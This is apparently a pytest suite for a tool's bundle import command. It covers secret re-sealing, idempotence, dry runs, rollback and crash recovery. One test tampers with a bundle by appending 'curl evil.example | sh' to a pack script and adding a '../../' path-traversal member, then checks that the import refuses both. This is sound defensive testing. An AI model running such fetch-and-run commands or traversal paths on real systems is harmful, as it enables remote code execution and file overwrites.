"""``packhorse bundle import`` through the real entry point: everything arrives, secrets are
sealed again under the target's key, a second import is a no-op, hostile or wrong input
writes nothing, and a failure at the last step leaves the target exactly as it was."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from packhorse import bootstrap
from packhorse.engine.instance import init_instance
from packhorse.errors import StorageError
from packhorse.migrate import bundle_format as fmt
from packhorse.migrate import importing
from packhorse.model.content import Kind
from packhorse.model.datastore import Scope
from packhorse.settings import load_settings
from packhorse.storage import schema
from packhorse.storage.snapshot import open_snapshot
from tests.conftest import CliResult
from tests.migrate.conftest import FIXTURE_PACKS, SECRETS, Populated

Run = Callable[..., CliResult]
PASSPHRASE = "a long enough passphrase"


@pytest.fixture
def target(tmp_path: Path) -> Path:
    """A freshly initialised instance, with its own datastore key and admin."""
    home = tmp_path / "target"
    init_instance(home)
    return home


@pytest.fixture
def passfile(tmp_path: Path) -> Path:
    path = tmp_path / "pass"
    path.write_text(PASSPHRASE + "\n")
    return path


def export(cli: Run, home: Path, bundle: Path, passfile: Path, *extra: object) -> None:
    done = cli(
        "--home", home, "bundle", "export", "-o", bundle, "--passphrase-file", passfile, *extra
    )
    assert done.code == 0, done.err


def import_(cli: Run, home: Path, bundle: Path, passfile: Path | None, *extra: object) -> CliResult:
    bootstrap._cached_registry.cache_clear()  # each CLI command is a new process, not here
    options = ["--passphrase-file", passfile] if passfile else []
    result = cli("--home", home, "bundle", "import", bundle, *options, *extra)
    bootstrap._cached_registry.cache_clear()
    return result


def state(home: Path) -> dict[str, Any]:
    """Everything an import may change, to compare before and after."""
    settings = load_settings(home)
    with open_snapshot(settings.database) as snapshot:
        database = {
            "packs": snapshot.packs(),
            "rules": snapshot.rule_states(),
            "keys": [(p.scope, p.user, p.name, p.secret, p.value) for p in snapshot.key_values()],
            "users": snapshot.users(),
            "api_keys": snapshot.api_keys(),
            "instances": sorted(snapshot.ids(schema.trigger_instances)),
        }
    registry = bootstrap.content_registry(settings)
    database["resources"] = sorted(
        (r.kind.value, r.ref, r.enabled) for kind in Kind for r in registry.list_resources(kind)
    )
    files = {}
    for folder in ("packs", "configs"):
        for path in sorted((home / folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                files[str(path.relative_to(home))] = hashlib.sha256(path.read_bytes()).hexdigest()
    sources = home / "pack-sources.json"
    files["pack-sources.json"] = sources.read_text() if sources.exists() else None
    return {"database": database, "files": files}


def test_import_brings_everything_and_reseals_secrets(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    (populated.settings.packs_dir / "demo_good" / "actions" / "copy.sh").chmod(0o755)
    export(cli, populated.settings.home, bundle, passfile)
    done = import_(cli, target, bundle, passfile)
    assert done.code == 0, done.err
    assert "add       pack demo_good (1.2.3)" in done.out
    assert "conflict  user admin" in done.out  # the target's admin is kept
    assert "bundle import: installing 1 packs" in done.err  # progress on stderr
    for clear in [*SECRETS.values(), PASSPHRASE]:
        assert clear not in done.out + done.err

    settings = load_settings(target)
    registry = bootstrap.content_registry(settings)
    assert {p.ref for p in registry.list_packs()} >= {"core", "examples", "demo_good"}
    rule = registry.get_resource(Kind.RULE, "demo_good.on_line")
    assert rule is not None and not rule.enabled
    assert (target / "packs" / "demo_good" / "actions" / "copy.sh").stat().st_mode & 0o111
    assert (target / "configs" / "demo_good.yaml").read_bytes() == (
        populated.settings.configs_dir / "demo_good.yaml"
    ).read_bytes()
    datastore = bootstrap.datastore_service(settings)
    assert datastore.get_value("db_password", decrypt=True).value == SECRETS["db_password"]
    token = datastore.get_value("token", scope=Scope.USER, user="alice", decrypt=True)
    assert token.value == SECRETS["alice_token"]
    assert datastore.get_value("region").value == "eu-west-1"
    # Sealed under the target's own key, which differs from the source's.
    assert settings.key_file.read_bytes() != populated.settings.key_file.read_bytes()
    users = {name for name, _role, _created in bootstrap.user_store(settings).list_users()}
    assert users == {"admin", "alice"}
    assert bootstrap.auth_service(settings).authenticate(api_key=populated.api_key).user == "alice"
    with open_snapshot(settings.database) as snapshot:
        assert snapshot.ids(schema.trigger_instances) == {populated.recent_instance}
        assert len(snapshot.ids(schema.rule_enforcements)) == 1


def test_second_import_changes_nothing(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    assert import_(cli, target, bundle, passfile).code == 0
    database = target / "state.db"
    before = (hashlib.sha256(database.read_bytes()).hexdigest(), state(target))
    again = import_(cli, target, bundle, passfile, "--json")
    assert again.code == 0, again.err
    plan = json.loads(again.out)["plan"]
    assert plan["writes"] is False and not json.loads(again.out)["applied"]
    assert {c["action"] for c in plan["changes"]} <= {"unchanged", "conflict"}
    assert (hashlib.sha256(database.read_bytes()).hexdigest(), state(target)) == before
    assert "Nothing to do" in import_(cli, target, bundle, passfile).out


def test_dry_run_prints_the_plan_and_writes_nothing(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    before = state(target)
    done = import_(cli, target, bundle, passfile, "--dry-run", "--json")
    assert done.code == 0, done.err
    report = json.loads(done.out)
    assert not report["applied"] and report["plan"]["writes"]
    counts = report["plan"]["counts"]
    assert counts["pack"] == {"add": 1, "unchanged": 1}
    assert counts["key"] == {"add": 5} and counts["user"] == {"add": 1, "conflict": 1}
    assert counts["trigger_instance"] == {"add": 1}
    assert state(target) == before
    assert not (target / importing.STAGING).exists()


def test_target_only_packs_are_kept_unless_pruned(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    shutil.copytree(FIXTURE_PACKS / "demo_user", target / "packs" / "demo_user")
    assert bootstrap.register_instance_packs(load_settings(target), refs=["demo_user"]).ok
    export(cli, populated.settings.home, bundle, passfile)
    kept = import_(cli, target, bundle, passfile, "--dry-run")
    assert "keep      pack demo_user" in kept.out
    pruned = import_(cli, target, bundle, passfile, "--prune")
    assert pruned.code == 0, pruned.err
    assert "remove    pack demo_user" in pruned.out
    registered = {p.ref for p in bootstrap.content_registry(load_settings(target)).list_packs()}
    assert "demo_user" not in registered and not (target / "packs" / "demo_user").exists()


def test_replace_users_overwrites_the_target_admin(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    done = import_(cli, target, bundle, passfile, "--replace-users")
    assert done.code == 0, done.err
    source = bootstrap.user_store(populated.settings).get_password_hash("admin")
    assert bootstrap.user_store(load_settings(target)).get_password_hash("admin") == source


def test_wrong_or_missing_passphrase_is_refused_with_nothing_written(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    before = state(target)
    (tmp_path / "wrong").write_text("not the right passphrase\n")
    wrong = import_(cli, target, bundle, tmp_path / "wrong")
    assert wrong.code != 0 and "wrong passphrase" in wrong.err
    assert "the passphrase the bundle was exported with" in wrong.err
    missing = import_(cli, target, bundle, None)
    assert missing.code != 0 and "--passphrase-file" in missing.err
    assert state(target) == before


def _rewrite(
    source: Path, target: Path, change: Callable[[str, bytes], bytes], *extra: tarfile.TarInfo
) -> None:
    """Copy a bundle, passing each member's bytes through ``change``; ``extra`` members
    (four bytes each) appended."""
    with tarfile.open(source, "r:gz") as archive:
        entries = [(i, archive.extractfile(i).read()) for i in archive]  # type: ignore[union-attr]
    with gzip.open(target, "wb") as compressed, tarfile.open(fileobj=compressed, mode="w") as out:
        for info, data in entries:
            data = change(info.name, data)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
        for info in extra:
            info.size = 4
            out.addfile(info, io.BytesIO(b"evil"))


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("altered member", "checksum mismatch"),
        ("unknown format", "bundle format 99 is not one this Packhorse reads"),
        ("path escaping", "unsafe member path"),
    ],
)
def test_hostile_bundle_is_refused_with_nothing_written(  # noqa: PLR0917 - fixtures
    cli: Run,
    populated: Populated,
    target: Path,
    tmp_path: Path,
    passfile: Path,
    case: str,
    message: str,
) -> None:
    good, bad = tmp_path / "site.tgz", tmp_path / "bad.tgz"
    export(cli, populated.settings.home, good, passfile)

    def change(name: str, data: bytes) -> bytes:
        if case == "altered member" and name == "packs/demo_good/actions/copy.sh":
            return data + b"\ncurl evil.example | sh\n"
        if case == "unknown format" and name == fmt.MANIFEST:
            return data.replace(b'"format":1', b'"format":99')
        return data

    extra = [tarfile.TarInfo("packs/../../escaped")] if case == "path escaping" else []
    _rewrite(good, bad, change, *extra)
    before = state(target)
    refused = import_(cli, target, bad, passfile)
    assert refused.code != 0 and message in refused.err, refused.err
    assert state(target) == before
    assert not (tmp_path / "escaped").exists() and not (target / importing.STAGING).exists()


def two_bundles(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> Path:
    """The source's first bundle imported into ``target``; then, on the source, pack demo_good
    updated, demo_user added, demo_good's config changed: the second bundle (returned)."""
    source = populated.settings
    first, second = tmp_path / "first.tgz", tmp_path / "second.tgz"
    export(cli, source.home, first, passfile)
    assert import_(cli, target, first, passfile).code == 0
    pack_yaml = source.packs_dir / "demo_good" / "pack.yaml"
    pack_yaml.write_text(pack_yaml.read_text().replace("1.2.3", "1.3.0"))
    shutil.copytree(FIXTURE_PACKS / "demo_user", source.packs_dir / "demo_user")
    assert bootstrap.register_instance_packs(source, refs=["demo_good", "demo_user"]).ok
    (source.configs_dir / "demo_good.yaml").write_text(
        "---\napi_url: https://changed.example.org\napi_token: x\n"
    )
    return second


def test_failure_at_the_last_step_leaves_the_target_as_it_was(  # noqa: PLR0917 - fixtures
    cli: Run,
    populated: Populated,
    target: Path,
    tmp_path: Path,
    passfile: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The target holds the source's first bundle; the second updates a pack, adds one,
    changes a config, a key, a rule state and adds a user. The database step fails."""
    source = populated.settings
    second = two_bundles(cli, populated, target, tmp_path, passfile)
    assert bootstrap.content_registry(source).set_enabled(Kind.RULE, "demo_good.on_line", True)
    bootstrap.datastore_service(source).set_value("region", "us-east-2")
    bootstrap.user_store(source).add_user("bob", "hash", "operator", now="2026-01-01T00:00:00Z")
    export(cli, source.home, second, passfile)

    before = state(target)
    plan = json.loads(import_(cli, target, second, passfile, "--dry-run", "--json").out)["plan"]
    actions = {(c["kind"], c["name"]): c["action"] for c in plan["changes"]}
    assert actions[("pack", "demo_good")] == "update" and actions[("pack", "demo_user")] == "add"
    assert actions[("config", "demo_good.yaml")] == "update"

    def broken(*_args: object) -> None:
        raise StorageError("database error: disk on fire")

    monkeypatch.setattr(importing, "_write_database", broken)
    failed = import_(cli, target, second, passfile)
    assert failed.code != 0 and "disk on fire" in failed.err
    assert state(target) == before
    assert not (target / importing.STAGING).exists()

    monkeypatch.undo()
    done = import_(cli, target, second, passfile)
    assert done.code == 0, done.err
    after = bootstrap.content_registry(load_settings(target))
    assert {p.ref: p.version for p in after.list_packs()}["demo_good"] == "1.3.0"
    rule = after.get_resource(Kind.RULE, "demo_good.on_line")
    assert rule is not None and rule.enabled


def test_round_trip_keeps_the_content_checksum(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    """Export A, import into B (a fresh instance with its own key), export B with the same
    passphrase: the same content checksum. A changed secret still changes it."""

    def checksum(home: Path, bundle: Path) -> str:
        done = cli(
            "--home", home, "bundle", "export", "-o", bundle, "--passphrase-file", passfile,
            "--with-executions", "--json",
        )  # fmt: skip
        assert done.code == 0, done.err
        return str(json.loads(done.out)["content_checksum"])

    first = checksum(populated.settings.home, tmp_path / "a.tgz")
    done = import_(cli, target, tmp_path / "a.tgz", passfile, "--replace-users")
    assert done.code == 0, done.err
    assert checksum(target, tmp_path / "b.tgz") == first
    bootstrap.datastore_service(load_settings(target)).set_value(
        "db_password", "another one", secret=True
    )
    assert checksum(target, tmp_path / "c.tgz") != first


@pytest.mark.parametrize("installed_first", [False, True], ids=["pack added", "pack staying"])
def test_a_config_that_does_not_validate_is_refused_with_nothing_written(  # noqa: PLR0917
    cli: Run,
    populated: Populated,
    target: Path,
    tmp_path: Path,
    passfile: Path,
    installed_first: bool,
) -> None:
    """Checked by the installer when its pack comes with the bundle (and the config put
    back), by the import itself when the pack is already there unchanged."""
    source = populated.settings
    if installed_first:
        export(cli, source.home, tmp_path / "first.tgz", passfile)
        assert import_(cli, target, tmp_path / "first.tgz", passfile).code == 0
    (source.configs_dir / "demo_good.yaml").write_text("---\napi_url: 42\n")
    export(cli, source.home, tmp_path / "bad.tgz", passfile)
    before = state(target)
    refused = import_(cli, target, tmp_path / "bad.tgz", passfile)
    assert refused.code != 0 and "api_url" in refused.err, refused.err
    assert state(target) == before


def test_import_of_a_bundle_sealed_for_this_instance(
    cli: Run, populated: Populated, target: Path, tmp_path: Path
) -> None:
    public = tmp_path / "target.pub"
    assert cli("--home", target, "bundle", "recipient-key", "-o", public).code == 0
    bundle = tmp_path / "site.tgz"
    done = cli(
        "--home", populated.settings.home, "bundle", "export", "-o", bundle, "--recipient", public
    )
    assert done.code == 0, done.err
    imported = import_(cli, target, bundle, None)
    assert imported.code == 0, imported.err
    datastore = bootstrap.datastore_service(load_settings(target))
    assert datastore.get_value("db_password", decrypt=True).value == SECRETS["db_password"]
    elsewhere = tmp_path / "elsewhere"
    init_instance(elsewhere)
    refused = import_(cli, elsewhere, bundle, None)
    assert refused.code != 0 and "recipient key" in refused.err


@pytest.mark.postgres
def test_import_into_an_instance_on_postgresql(
    cli: Run, populated: Populated, tmp_path: Path, passfile: Path, postgres_url: str
) -> None:
    from tests.migrate.conftest import use_postgres

    home = tmp_path / "pg"
    init_instance(home)
    use_postgres(home, postgres_url)
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    done = import_(cli, home, bundle, passfile, "--replace-users")
    assert done.code == 0, done.err
    settings = load_settings(home)
    rule = bootstrap.content_registry(settings).get_resource(Kind.RULE, "demo_good.on_line")
    assert rule is not None and not rule.enabled
    token = bootstrap.datastore_service(settings).get_value(
        "token", scope=Scope.USER, user="alice", decrypt=True
    )
    assert token.value == SECRETS["alice_token"]
    before = state(home)
    again = import_(cli, home, bundle, passfile, "--replace-users", "--json")
    assert again.code == 0 and not json.loads(again.out)["plan"]["writes"]
    assert state(home) == before


def test_a_staging_folder_left_by_a_crash_is_cleared(
    cli: Run, populated: Populated, target: Path, tmp_path: Path, passfile: Path
) -> None:
    (target / importing.STAGING / "0123abcd" / "packs").mkdir(parents=True)
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    assert import_(cli, target, bundle, passfile).code == 0
    assert not (target / importing.STAGING).exists()


def test_a_failed_import_puts_back_the_packs_it_pruned(  # noqa: PLR0917 - fixtures
    cli: Run,
    populated: Populated,
    target: Path,
    tmp_path: Path,
    passfile: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shutil.copytree(FIXTURE_PACKS / "demo_user", target / "packs" / "demo_user")
    assert bootstrap.register_instance_packs(load_settings(target), refs=["demo_user"]).ok
    bundle = tmp_path / "site.tgz"
    export(cli, populated.settings.home, bundle, passfile)
    before = state(target)

    def broken(*_args: object) -> None:
        raise StorageError("database error: disk on fire")

    monkeypatch.setattr(importing, "_write_database", broken)
    failed = import_(cli, target, bundle, passfile, "--prune")
    assert failed.code != 0 and "disk on fire" in failed.err
    assert state(target) == before


def test_an_import_killed_midway_is_undone_by_the_next_one(  # noqa: PLR0917 - fixtures
    cli: Run,
    populated: Populated,
    target: Path,
    tmp_path: Path,
    passfile: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The process dies (no except, no finally) after the packs and configs are written and
    before the database step: the next import puts them back before it plans."""
    source = populated.settings
    first = tmp_path / "first.tgz"
    second = two_bundles(cli, populated, target, tmp_path, passfile)
    export(cli, source.home, second, passfile)
    before = state(target)

    def killed(*_args: object) -> None:
        os._exit(9)  # as SIGKILL would: nothing after this line runs

    child = os.fork()
    if child == 0:  # the import, in a process that dies in the middle
        monkeypatch.setattr(importing, "_write_database", killed)
        import_(cli, target, second, passfile)
        os._exit(0)
    _pid, status = os.waitpid(child, 0)
    assert os.waitstatus_to_exitcode(status) == 9
    assert state(target) != before, "the packs and configs were written before it died"

    dry = import_(cli, target, first, passfile, "--dry-run")
    assert dry.code == 0  # a dry run changes nothing, recovery included
    again = import_(cli, target, first, passfile)
    assert again.code == 0, again.err
    assert "undid an import that was interrupted" in again.err
    assert state(target) == before
    assert not (target / importing.STAGING).exists()
